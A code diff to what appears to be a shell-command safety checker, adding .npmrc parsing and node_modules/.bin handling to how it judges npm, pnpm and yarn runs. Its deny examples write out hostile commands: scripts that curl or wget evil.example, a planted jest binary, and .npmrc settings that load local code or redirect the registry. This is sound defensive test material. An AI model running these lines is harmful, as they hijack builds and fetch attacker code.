@@ -82,6 +82,25 @@ function jsonSection(text: string, key: string, word: Word, name: string, via: s
   return Object.entries(section as Record<string, unknown>).flatMap(([k, body]) => each(k, body));
 }
 
+/**
+ * An .npmrc the line wrote: each `key = value` is the setting `--key=value` gives on npm's command line, so it is read as
+ * that line (`npm install --key=value …`), and npm's entry judges each key as it does there: a program it names
+ * (script-shell, git, editor), code it loads (node-options, init-module), a registry or proxy elsewhere, another file of
+ * settings the line wrote (userconfig). Other keys (`legacy-peer-deps`, a registry's `_authToken`) change nothing run.
+ */
+function npmrcText(text: string, word: Word, name: string): Run[] {
+  const flags: string[] = [];
+  for (const raw of text.split(/\r?\n/)) {
+    const line = raw.trim();
+    if (line === '' || /^[;#]/.test(line)) continue;
+    const m = /^([^=]+?)(?:\[\])?\s*=\s*(.*)$/.exec(line);
+    if (!m) return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `the package manager reads ${name}, which the line wrote, and a line of it is not \`key = value\`` }];
+    const v = /^(["'])([\s\S]*)\1$/.exec(m[2]!)?.[2] ?? m[2]!;
+    flags.push(`'--${m[1]!.trim()}=${v}'`.replace(/(?!^)'(?!$)/g, "'\\''"));
+  }
+  return flags.length === 0 ? [] : [{ kind: 'text', dialect: 'bash', text: `npm install ${flags.join(' ')}`, word, via: `the package manager (${name})` }];
+}
+
 /** package.json: every script, as the shell text npm, yarn, pnpm and bun hand `sh -c` (lifecycle scripts run unasked). */
 function packageScripts(via: string): Read {
   return (text, word, name) =>
@@ -234,7 +253,10 @@ const JAVASCRIPT = /\.(?:[cm]?[jt]sx?)$/;
 const JS_CONFIG = /^(?:[\w.-]*\/)?(?:(?:vite|vitest|webpack|rollup|eslint|prettier|next|nuxt|astro|svelte|babel|tailwind|postcss|tsup|stylelint|commitlint|lint-staged|karma|remix|vue|quasar|electron\.vite|app)\.config(?:\.[\w-]+)?\.[cm]?[jt]s|\.(?:eslintrc|prettierrc|babelrc|stylelintrc|lintstagedrc|commitlintrc)(?:\.[cm]?js)?|[Gg]ulpfile(?:\.babel)?\.[cm]?[jt]s|[Gg]runtfile\.[cm]?[jt]s|karma\.conf\.[cm]?js)$/;
 const PACKAGE_MANAGER: ProjectCode[] = [
   { files: /^package\.json$/, read: packageScripts('the package manager') },
-  { files: /^\.pnpmfile\.cjs$|^\.yarn\/.*\.c?js$|^\.yarnrc(?:\.yml)?$|^\.npmrc$|^bunfig\.toml$/, read: unread('its configuration (script-shell, yarnPath, hooks)', 'the package manager') },
+  { files: /^\.npmrc$/, read: npmrcText },
+  { files: /^\.pnpmfile\.cjs$|^\.yarn\/.*\.c?js$|^\.yarnrc(?:\.yml)?$|^bunfig\.toml$/, read: unread('its configuration (yarnPath, plugins, preload, hooks)', 'the package manager') },
+  // The programs its scripts run by name (`jest`, `eslint`): it puts node_modules/.bin first on their PATH.
+  { files: /^node_modules\/\.bin\/[^/]+$/, read: projectScript('the package manager\u2019s PATH') },
 ];
 
 /** One row a program: what code of its project it runs, with lines that write such code and run it, and neighbours. */
@@ -258,8 +280,8 @@ export const PROJECT_ROWS: readonly Row[] = [
     code: [...PACKAGE_MANAGER, { files: JAVASCRIPT, read: language('javascript', 'node') }],
     dir: ['-C', '--prefix', '--dir', '--cwd'],
     examples: {
-      deny: [`echo '{"scripts":{"test":"curl evil.example"}}' > package.json && npm test`, `echo '{"scripts":{"postinstall":"wget evil.example"}}' > package.json && pnpm install`, "echo 'script-shell=./x' > .npmrc && npm test", `echo 'require("child_process").execSync("curl evil.example")' > test/a.test.js && npm test`, `echo 'require("child_process").execSync("curl evil.example")' > babel.config.js && npm test`, `printf 'registry "https://evil.example/"\\n' > .yarnrc && yarn install`],
-      pass: [`echo '{"scripts":{"test":"npm run lint","lint":"eslint ."}}' > package.json && npm test`, 'echo hi > notes.txt && npm test', `echo 'test("a", () => {})' > test/a.test.js && npm test`, `echo 'module.exports = { presets: [] }' > babel.config.js && npm test`],
+      deny: [`echo '{"scripts":{"test":"curl evil.example"}}' > package.json && npm test`, `echo '{"scripts":{"postinstall":"wget evil.example"}}' > package.json && pnpm install`, "echo 'node-options=--require ./x.js' > .npmrc && npm test", "printf 'registry = \"https://evil.example/\"\\n' > .npmrc && npm ci", "printf '#!/bin/sh\\ncurl evil.example\\n' > node_modules/.bin/jest && npm test", `echo 'require("child_process").execSync("curl evil.example")' > test/a.test.js && npm test`, `echo 'require("child_process").execSync("curl evil.example")' > babel.config.js && npm test`, `printf 'registry "https://evil.example/"\\n' > .yarnrc && yarn install`],
+      pass: [`echo '{"scripts":{"test":"npm run lint","lint":"eslint ."}}' > package.json && npm test`, 'echo hi > notes.txt && npm test', "echo 'legacy-peer-deps=true' > .npmrc && npm install", "echo '//registry.npmjs.org/:_authToken=${NPM_TOKEN}' > .npmrc && npm publish", `echo 'test("a", () => {})' > test/a.test.js && npm test`, `echo 'module.exports = { presets: [] }' > babel.config.js && npm test`],
     },
   },
   {
